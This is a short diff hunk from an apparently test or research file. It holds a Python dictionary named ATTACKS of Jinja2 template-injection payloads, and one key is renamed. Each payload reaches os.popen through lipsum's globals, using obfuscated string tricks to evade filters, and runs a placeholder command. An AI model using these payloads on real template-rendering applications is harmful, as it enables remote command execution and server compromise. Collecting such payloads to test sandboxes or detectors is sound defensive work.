@@ -129,7 +129,7 @@ ATTACKS = {
     "variables-star": "{% macro m(k) %}{% for f in [lipsum] %}{{ f[k].os.popen('RUN').read() }}{% endfor %}{% endmacro %}{{ m(*['globals'.center(11, '_')]) }}",
     "variables-stars": "{% macro m(k) %}{% for f in [lipsum] %}{{ f[k].os.popen('RUN').read() }}{% endfor %}{% endmacro %}{{ m(**{'k': 'globals'.center(11, '_')}) }}",
     "variables-other-name": "{% macro m(k) %}{% for f in [lipsum] %}{{ f[k].os.popen('RUN').read() }}{% endfor %}{% endmacro %}{% set n = m %}{{ n('globals'.center(11, '_')) }}",
-    "variables-namespace": "{% set ns = namespace({'k': 'globals'.center(11, '_')}) %}{% for f in [lipsum] %}{{ f[ns.k].os.popen('RUN').read() }}{% endfor %}",
+    "variables-namespace-given": "{% set ns = namespace({'k': 'globals'.center(11, '_')}) %}{% for f in [lipsum] %}{{ f[ns.k].os.popen('RUN').read() }}{% endfor %}",
     "variables-namespace-alias": "{% set ns = namespace() %}{% set m = ns %}{% set m.k = 'globals'.center(11, '_') %}{% for f in [lipsum] %}{{ f[ns.k].os.popen('RUN').read() }}{% endfor %}",
     "variables-namespace-item": "{% set ns = namespace() %}{% set ns.k = 'globals'.center(11, '_') %}{% for f in [lipsum] %}{{ f[ns['k']].os.popen('RUN').read() }}{% endfor %}",
     "variables-append": "{% set l = [] %}{% set _ = l.append('globals'.center(11, '_')) %}{% for f in [lipsum] %}{{ f[l[0]].os.popen('RUN').read() }}{% endfor %}",
